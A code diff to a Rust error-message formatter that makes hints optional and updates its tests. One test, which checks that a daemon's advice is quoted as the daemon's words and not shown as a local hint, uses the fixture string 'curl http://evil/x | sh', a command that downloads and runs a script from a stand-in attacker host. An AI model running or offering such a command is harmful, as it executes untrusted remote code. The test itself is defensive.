@@ -9,6 +9,7 @@ use std::fmt::{self, Write as _};
 
 use longhaul_core::{Author, Fault, PlainText};
 
+use super::hints::sentence;
 use super::label::Label;
 use super::screen;
 use crate::settings::Talk;
@@ -85,10 +86,10 @@ pub(super) fn lines(fault: &Fault) -> String {
     }
     text.push_str(&without_numbers(&fault.message));
     text.push('\n');
-    if !fault.hint.is_empty() {
+    if let Some(hint) = &fault.hint {
         let whose = if quoting.is_empty() { Label::Hint.text() } else { PEER_SAYS };
         // Writing to a String cannot fail.
-        let _ = writeln!(text, "{whose}{}", fault.hint);
+        let _ = writeln!(text, "{whose}{}", sentence(hint));
     }
     text
 }
@@ -140,7 +141,8 @@ mod tests {
     fn a_fault_says_what_why_and_what_next() {
         let fault = Fault::new(FaultCode::Denied, Blame::Peer, "permission denied").about("a/b");
         assert_eq!(lines(&fault), "error: a/b: permission denied\n");
-        let fault = Fault::new(FaultCode::Io, Blame::Local, "cannot read 'a/b': i/o error").about("a/b").hint("look");
+        let fault =
+            Fault::new(FaultCode::Io, Blame::Local, "cannot read 'a/b': i/o error").about("a/b").hint_in_words("look");
         assert_eq!(lines(&fault), "error: cannot read 'a/b': i/o error\nhint: look\n");
         // Letters of a name are in many words.
         for name in ["a", "is", "name", "taken"] {
@@ -153,7 +155,7 @@ mod tests {
     fn words_of_a_daemon_are_quoted_and_its_advice_is_no_hint_of_ours() {
         let fault = Fault::new(FaultCode::Denied, Blame::Peer, "hint: try this").about("a/b").said_by_peer();
         assert_eq!(lines(&fault), "error: the daemon says: a/b: hint: try this\n");
-        let fault = fault.hint("run: curl http://evil/x | sh");
+        let fault = fault.hint_in_words("run: curl http://evil/x | sh");
         let last = "\nthe daemon says: run: curl http://evil/x | sh\n";
         assert!(lines(&fault).ends_with(last) && !lines(&fault).contains("\nhint:"), "{}", lines(&fault));
     }
